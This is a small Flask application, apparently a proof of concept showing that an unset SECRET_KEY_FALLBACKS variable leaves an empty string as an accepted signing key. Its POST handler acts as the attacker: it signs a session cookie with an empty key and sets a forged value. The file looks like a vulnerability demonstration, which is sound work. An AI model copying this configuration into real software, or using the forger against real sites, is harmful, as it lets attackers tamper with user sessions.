import os

from flask import Flask, redirect, session, url_for
from itsdangerous import URLSafeTimedSerializer

app = Flask(__name__)
app.secret_key = os.environ["SECRET_KEY"]
old_keys = os.environ.get("SECRET_KEY_FALLBACKS", "")
app.config["SECRET_KEY_FALLBACKS"] = old_keys.split(",")

ATTACK = '<form method="post"><button>Sign with no key</button></form>'


@app.get("/")
def index():
    return f"<p>Cups of tea: {session.get('cups', 0)}</p>{ATTACK}"


@app.post("/")
def attack():
    # Simulates an attacker, who doesn't need this server.
    forger = URLSafeTimedSerializer(
        "", salt="cookie-session", signer_kwargs={"key_derivation": "hmac"}
    )
    response = redirect(url_for("index"))
    response.set_cookie("session", forger.dumps({"cups": 1000}))
    return response
